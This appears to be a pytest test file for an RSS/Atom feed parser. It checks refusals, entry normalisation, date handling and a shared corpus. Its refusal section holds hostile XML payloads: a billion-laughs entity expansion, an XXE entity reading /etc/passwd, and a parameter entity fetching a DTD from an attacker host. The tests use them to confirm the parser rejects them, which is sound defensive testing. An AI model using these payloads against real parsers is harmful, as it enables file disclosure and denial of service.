"""parse_feed: safety refusals, entries, dates, and the whole shared corpus."""

from __future__ import annotations

import collections
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from producers.normalise import FeedRefused, check_safe, content_hash, parse_feed
from producers.text import html_to_text
from wirewatch.schema import article_id

FETCHED = datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)
CORPUS = Path(__file__).resolve().parents[3] / ".." / "shared" / "corpus"


def rss(items: str, channel_extra: str = "", prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0" '
        'xmlns:media="http://search.yahoo.com/mrss/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>Example News</title><link>https://www.example.com/</link>{channel_extra}{items}</channel></rss>"
    ).encode("utf-8")


def item(link: str = "https://example.com/a", title: str = "A title", date: str = "Wed, 01 May 2024 10:00:00 +0200", extra: str = "") -> str:
    date_el = f"<pubDate>{date}</pubDate>" if date else ""
    link_el = f"<link>{link}</link>" if link else ""
    return f"<item><title>{title}</title>{link_el}{date_el}{extra}</item>"


def parse(body: bytes, **kwargs):
    kwargs.setdefault("feed_url", "https://example.com/feed.xml")
    kwargs.setdefault("fetched_at", FETCHED)
    return parse_feed(body, **kwargs)


# ------------------------------------------------------------------ refusals

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title><link>http://a.example/</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, XXE.decode().encode("utf-16"), XXE.replace(b"<!ENTITY", b"<!entity")],
                         ids=["billion-laughs", "xxe", "parameter-entity", "utf16-xxe", "lowercase"])
def test_entity_declarations_are_refused(body):
    with pytest.raises(FeedRefused, match="entities"):
        parse(body)


def test_public_doctype_without_entities_is_parsed():
    body = rss(item(), prolog='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    check_safe(body)
    assert len(parse(body).articles) == 1


@pytest.mark.parametrize("body", [b"", b"   ", b"<html><body><p>Hello</p></body></html>", b"\x89PNG\r\n\x1a\n\x00\x00binary", b"{\"not\": \"a feed\"}"])
def test_non_feeds_are_refused_with_a_reason(body):
    with pytest.raises(FeedRefused) as info:
        parse(body)
    assert info.value.reason


def test_bytes_that_look_like_a_path_are_never_opened(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_bytes(rss(item(title="SECRET")))
    with pytest.raises(FeedRefused):
        parse(str(secret).encode())


def test_parse_feed_takes_bytes_only():
    with pytest.raises(TypeError):
        parse(rss(item()).decode())


# ------------------------------------------------------------------ entries


def test_entry_fields_are_normalised():
    extra = (
        "<description>&lt;p&gt;First &amp;amp; para&lt;/p&gt;&lt;script&gt;evil()&lt;/script&gt;&lt;p&gt;Second&lt;/p&gt;</description>"
        "<content:encoded><![CDATA[<div><p>Full <b>text</b>&nbsp;here.</p><style>p{}</style><p>More.</p></div>]]></content:encoded>"
        "<author>jane@example.com (Jane Doe)</author><category>Politics</category><category>World</category>"
        '<media:thumbnail url="/img/a.jpg"/>'
    )
    body = rss(item(link="/news/a?utm_source=rss&id=7#top", extra=extra), channel_extra="<language>en-GB</language><ttl>15</ttl>")
    feed = parse(body, feed_name="Example")
    (article,) = feed.articles
    assert article.url == "https://example.com/news/a?id=7"
    assert article.id == article_id("https://example.com/news/a?id=7")
    assert article.title == "A title"
    assert article.summary == "First & para\n\nSecond"
    assert article.text == "Full text here.\n\nMore."
    assert "<b>text</b>" in article.content_html
    assert article.categories == ["Politics", "World"]
    assert article.authors and "Jane" in article.authors[0]
    assert article.language == "en-gb"
    assert article.image == "https://example.com/img/a.jpg"
    assert article.source.feed_title == "Example News" and article.source.feed_name == "Example"
    assert article.source.domain == "example.com"
    assert article.published_at == datetime(2024, 5, 1, 8, 0, tzinfo=timezone.utc)
    assert article.date_flags == []
    assert feed.ttl_s == 15 * 60


def test_declared_language_is_the_fallback():
    assert parse(rss(item()), declared_language="de").articles[0].language == "de"


def test_update_period_hint():
    feed = parse(rss(item(), channel_extra="<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>"))
    assert feed.update_period_s == 1800


def test_content_hash_changes_with_the_text_only():
    first = parse(rss(item(extra="<description>one</description>"))).articles[0]
    again = parse(rss(item(extra="<description>one</description>"))).articles[0]
    edited = parse(rss(item(extra="<description>two</description>"))).articles[0]
    assert first.id == edited.id
    assert first.content_hash == again.content_hash == content_hash("A title", "one")
    assert edited.content_hash != first.content_hash


def test_entry_without_link_uses_url_id_or_is_skipped():
    body = rss(item(link="", extra="<guid>https://example.com/by-guid</guid>") + item(link="", title="No link", extra="<guid isPermaLink=\"false\">tag:x,2024:1</guid>"))
    feed = parse(body)
    assert [a.url for a in feed.articles] == ["https://example.com/by-guid"]
    assert any("entry 1" in p for p in feed.problems)


def test_max_entries_caps_the_poll():
    body = rss("".join(item(link=f"https://example.com/{i}") for i in range(30)))
    feed = parse(body, max_entries=10)
    assert len(feed.articles) == 10 and feed.entries_total == 30
    assert feed.problems


def test_duplicate_links_give_one_article():
    body = rss(item(link="https://example.com/a?utm_medium=x") + item(link="https://EXAMPLE.com/a#frag"))
    assert len(parse(body).articles) == 1


def test_atom_relative_links_resolve_against_xml_base():
    body = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example.org/posts/">
  <title>Blog</title><id>urn:x</id><updated>2024-04-30T10:00:00Z</updated>
  <entry><title>Post</title><id>urn:1</id><link href="one.html"/><updated>2024-04-30T10:00:00Z</updated>
  <content type="html">&lt;p&gt;Hi&lt;/p&gt;</content></entry>
</feed>"""
    (article,) = parse(body).articles
    assert article.url == "https://blog.example.org/posts/one.html"
    assert article.published_at == datetime(2024, 4, 30, 10, tzinfo=timezone.utc)
    assert "published_from_updated" in article.date_flags


def test_non_utf8_encoding_is_decoded():
    body = ('<?xml version="1.0" encoding="iso-8859-1"?><rss version="2.0"><channel><title>Caf\u00e9</title>'
            "<item><title>Gr\u00fc\u00dfe aus K\u00f6ln</title><link>http://example.de/a</link></item></channel></rss>").encode("iso-8859-1")
    feed = parse(body)
    assert feed.title == "Caf\u00e9"
    assert feed.articles[0].title == "Gr\u00fc\u00dfe aus K\u00f6ln"


# ------------------------------------------------------------------ dates


@pytest.mark.parametrize(
    "date, expected, flag",
    [
        ("", FETCHED, "published_missing"),
        ("not a date at all", FETCHED, "published_invalid"),
        ("Wed, 31 Feb 2024 10:00:00 GMT", FETCHED, "published_invalid"),
        ("Sat, 01 Jan 2050 10:00:00 GMT", FETCHED, "published_in_future"),
        ("Thu, 01 Jan 1970 00:00:00 GMT", FETCHED, "published_implausible"),
        ("Wed, 01 May 2024 20:00:00 GMT", datetime(2024, 5, 1, 20, tzinfo=timezone.utc), None),  # hours ahead: clock skew, kept
        ("2024-04-30T23:30:00-05:00", datetime(2024, 5, 1, 4, 30, tzinfo=timezone.utc), None),
    ],
)
def test_dates(date, expected, flag):
    (article,) = parse(rss(item(date=date))).articles
    assert article.published_at == expected
    assert article.published_at.tzinfo is not None and article.published_at.utcoffset() == timedelta(0)
    assert (flag in article.date_flags) if flag else article.date_flags == []


def test_html_to_text_blocks_and_entities():
    html = "<h1>Head</h1><p>One&nbsp;&amp; two<br>three</p><ul><li>a</li><li>b</li></ul><script>x()</script><style>.a{}</style>"
    assert html_to_text(html) == "Head\n\nOne & two\nthree\n\na\n\nb"
    assert html_to_text(None) == "" and html_to_text("plain &lt;text&gt;") == "plain <text>"


# ------------------------------------------------------------------ corpus


def _corpus_files(name: str) -> list[Path]:
    folder = CORPUS / name
    if not folder.is_dir():
        pytest.skip(f"../shared/corpus not present: {name} robustness test not run")
    return [p for p in sorted(folder.rglob("*")) if p.is_file() and p.suffix.lower() not in (".md", ".tsv", ".txt")]


@pytest.mark.parametrize("corpus", ["feeds-feedparser-tests", "feeds-realworld"])
def test_every_corpus_file_parses_or_is_refused_with_a_reason(corpus):
    refused: collections.Counter = collections.Counter()
    articles = 0
    files = _corpus_files(corpus)
    for path in files:
        try:
            feed = parse(path.read_bytes(), feed_url=f"http://feeds.example.com/{path.name}")
        except FeedRefused as exc:
            assert exc.reason, path
            refused[exc.reason.split(":")[0]] += 1
            continue
        articles += len(feed.articles)
        for article in feed.articles:
            assert article.url.startswith(("http://", "https://")), path
            assert article.published_at.utcoffset() == timedelta(0), path
    print(f"{corpus}: {len(files)} files, {articles} articles, refused: {dict(refused)}")
    assert articles > 0
    # Refusals are fine, but most of each corpus is real feeds.
    assert sum(refused.values()) < len(files) * 0.05
